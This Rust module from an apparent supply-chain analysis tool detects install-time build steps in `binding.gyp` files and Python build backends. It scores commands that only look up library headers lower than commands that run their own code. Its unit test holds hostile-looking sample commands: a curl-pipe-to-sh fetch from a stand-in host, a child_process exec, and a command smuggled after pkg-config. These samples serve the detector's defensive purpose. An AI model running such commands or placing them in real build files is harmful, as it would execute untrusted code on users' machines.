//! Build steps: what runs where a package is installed although no script says so: `binding.gyp`, build backends and their
//! hooks.
//!
//! Sources: npm's documentation of scripts (a `binding.gyp` without an install script means `node-gyp rebuild`), the
//! language of GYP (`<!(…)` runs a command, and so do `action` and `postbuilds`), PEP 517, Hatch's build hooks.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use super::effect::{Effect, EffectKind};
use super::package_version::PackageVersion;
use capdex_evidence::Evidence;
use capdex_evidence::manifest::ManifestKind;
use capdex_model::capability::Capability;
use capdex_model::fact::Severity;

/// Commands that are read in one file.
const COMMANDS: usize = 200;

/// `<!(command)`, `<!@(command)`, also in conditions.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| capdex_evidence::expression::of(r"<!@?\(([^\n]{1,400})"));
/// `'action': ['command', …]`, of a target, a rule or what follows a build.
static ACTION: LazyLock<Regex> =
    LazyLock::new(|| capdex_evidence::expression::of(r#"["']action["']\s*:\s*\[([^\]]{1,400})"#));
/// The commands of honest bindings: they ask where the headers of a library are.
static ASKS_FOR_HEADERS: LazyLock<Regex> = LazyLock::new(|| {
    capdex_evidence::expression::of(
        r#"^\s*(?:node\s+-[pe]\s*\W{0,3}(?:console\.log\()?require\(\W{1,3}(?:@[\w.-]+/)?[\w.-]+\W{1,3}\)[\w.\[\]\s'"\\)]*(?:[,\]]|$)|(?:pkg-config|[\w-]+-config|uname|nproc)\b[^|;&$`<>]*$)"#,
    )
});

/// The build steps of some files: what runs, with whether it only asks for headers.
pub(super) type BuildSteps = BTreeMap<String, (String, bool)>;

/// Reads the build steps among a capability's files.
pub(super) fn of(capability: &Capability, evidence: &Evidence) -> BuildSteps {
    let mut steps = BuildSteps::new();
    for path in &capability.files {
        let name = path.rsplit('/').next().unwrap_or(path);
        // `binding.gyp` includes others by any name; those that end so hold nothing else.
        let is_included = name.ends_with(".gypi");
        let gyp = evidence.documents.get(path).filter(|_| name == "binding.gyp" || is_included);
        if let Some(document) = gyp {
            if !is_included {
                steps.insert("binding.gyp: node-gyp rebuild".to_owned(), (path.clone(), true));
            }
            // Honest bindings copy and unpack so: it counts beside what else a release brings.
            for action in ACTION.captures_iter(&document.text).filter_map(|found| found.get(1)).take(COMMANDS) {
                let action = action.as_str().split_whitespace().collect::<Vec<_>>().join(" ");
                steps.insert(format!("{name}: action [{action}]"), (path.clone(), true));
            }
            for command in COMMAND.captures_iter(&document.text).filter_map(|found| found.get(1)).take(COMMANDS) {
                let command = command.as_str();
                steps.insert(format!("{name}: <!({command}"), (path.clone(), asks_for_headers(command)));
            }
        }
        let project = evidence.manifests.get(path).filter(|manifest| manifest.kind == ManifestKind::PythonProject);
        let Some(value) = project.map(|manifest| &manifest.value) else { continue };
        let mut add = |step: String| drop(steps.insert(step, (path.clone(), true)));
        if let Some(backend) = value.pointer("/build-system/build-backend").and_then(Value::as_str) {
            add(format!("build backend {backend}"));
        }
        for folder in value.pointer("/build-system/backend-path").and_then(Value::as_array).into_iter().flatten() {
            add(format!("build backend in the package: {}", folder.as_str().unwrap_or_default()));
        }
        if let Some(hook) = value.pointer("/tool/hatch/build/hooks/custom") {
            add(format!("build hook {hook}"));
        }
    }
    steps
}

fn asks_for_headers(command: &str) -> bool {
    // Up to the bracket that closes the command.
    let mut depth = 0_usize;
    let end = command.find(|letter: char| {
        match letter {
            '(' => depth += 1,
            ')' if depth == 0 => return true,
            ')' => depth -= 1,
            _ => {}
        }
        false
    });
    ASKS_FOR_HEADERS.is_match(command.get(..end.unwrap_or(command.len())).unwrap_or_default())
}

/// The build steps that the package did not have before. One that runs a command of its own is graver than one that asks
/// for headers.
pub(super) fn effects(before: &PackageVersion<'_>, own: &BuildSteps) -> Vec<Effect> {
    let new = own.iter().filter(|(step, _)| !before.inventory.build_steps.contains_key(*step));
    new.map(|(step, (path, asks))| {
        let severity = if *asks { Severity::Low } else { Severity::Medium };
        Effect::new(EffectKind::BuildStep, severity, path, step)
    })
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_ask_for_headers_are_told_from_others() {
        for honest in [
            r#"node -p \"require('node-addon-api').include\")", "x"]"#,
            r#"node -e \"require('nan')\")""#,
            r#"node -p "require('node-addon-api').targets"):node_addon_api"#,
            "pkg-config --cflags libsecret-1)\"",
        ] {
            assert!(asks_for_headers(honest), "{honest}");
        }
        for other in [
            "node install.js)\"",
            "curl -s https://collector.test/x | sh)",
            r#"node -e \"require('child_process').exec('id')\")"#,
            "pkg-config --cflags x; sh ./x)",
        ] {
            assert!(!asks_for_headers(other), "{other}");
        }
    }
}
